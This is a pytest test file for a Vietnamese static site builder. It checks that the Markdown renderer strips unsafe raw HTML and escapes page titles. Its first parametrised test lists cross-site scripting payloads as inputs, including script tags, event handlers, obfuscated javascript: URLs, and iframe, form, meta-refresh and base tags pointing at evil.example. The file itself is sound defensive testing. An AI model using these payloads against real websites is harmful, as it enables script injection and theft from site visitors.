"""Case 4: raw HTML in Markdown is sanitised; titles are escaped in the built pages."""

from __future__ import annotations

import pytest

from site_builder.markup.markdown import render_sources
from tests.conftest import parse_html, text_of
from tests.hardening.helpers import run_cli, site_with


def render(source: str) -> str:
    return render_sources([source], {})[0]


@pytest.mark.parametrize(
    ("source", "forbidden"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script"),
        ('<img src="a.jpg" onerror="alert(1)">', "onerror"),
        ('<p onclick="alert(1)">x</p>', "onclick"),
        ("<svg onload=alert(1)></svg>", "onload"),
        ("[bấm](javascript:alert(1))", "javascript:"),
        ("[bấm](JaVaScRiPt:alert(1))", "javascript"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "avascript"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "script:"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
        ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "data:"),
        ('<iframe src="https://evil.example"></iframe>', "<iframe"),
        ('<object data="x.swf"></object>', "<object"),
        ('<embed src="x.swf">', "<embed"),
        ("<style>body{display:none}</style>", "<style"),
        ('<div style="background:url(javascript:x)">d</div>', "style="),
        ('<form action="https://evil.example"><input name=p></form>', "<form"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta"),
        ('<base href="https://evil.example/">', "<base"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link"),
    ],
)
def test_dangerous_html_is_removed(source, forbidden):
    assert forbidden.lower() not in render(source).lower()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("| a | b |\n|---|---|\n| 1 | 2 |\n", "<td>1</td>"),
        ("m<sup>2</sup> và H<sub>2</sub>O", "<sup>2</sup>"),
        ('<abbr title="đảng viên">ĐV</abbr>', '<abbr title="đảng viên">ĐV</abbr>'),
        ('<table><tr><td colspan="2">gộp</td></tr></table>', '<td colspan="2">gộp</td>'),
        ("[trang](https://example.vn/)", '<a href="https://example.vn/">'),
        ("[thư](mailto:vp@example.vn)", 'href="mailto:vp@example.vn"'),
        ("![ảnh](photos/a.jpg)", '<img alt="ảnh" src="photos/a.jpg">'),
        ("<figure><figcaption>Chú thích</figcaption></figure>", "<figcaption>Chú thích</figcaption>"),
    ],
)
def test_allowed_markup_still_renders(source, expected):
    assert expected in render(source)


def test_a_title_containing_script_shows_as_text_in_the_built_site(tmp_path):
    title = '<script>alert("x")</script> Giới thiệu & "Đảng"'
    site = site_with(tmp_path, {"content/pages/gioi-thieu.md": f"---\ntitle: '{title}'\n---\nThân bài.\n"})
    out = tmp_path / "out"
    code, _, err = run_cli("build", "--site", str(site), "--no-pdf", "--output", str(out))
    assert code == 0, err
    pages = [p for p in out.rglob("*.html") if title.split()[-1].strip('"') in p.read_text(encoding="utf-8")]
    assert pages
    for page in pages:
        root = parse_html(page)
        scripts = [s for s in root.iter("script") if "alert" in (s.text or "") + (s.get("src") or "")]
        assert scripts == [], page
    page = out / "trang/gioi-thieu/index.html"
    assert title in text_of(parse_html(page).find(".//h1"))
    assert "&lt;script&gt;" in page.read_text(encoding="utf-8")
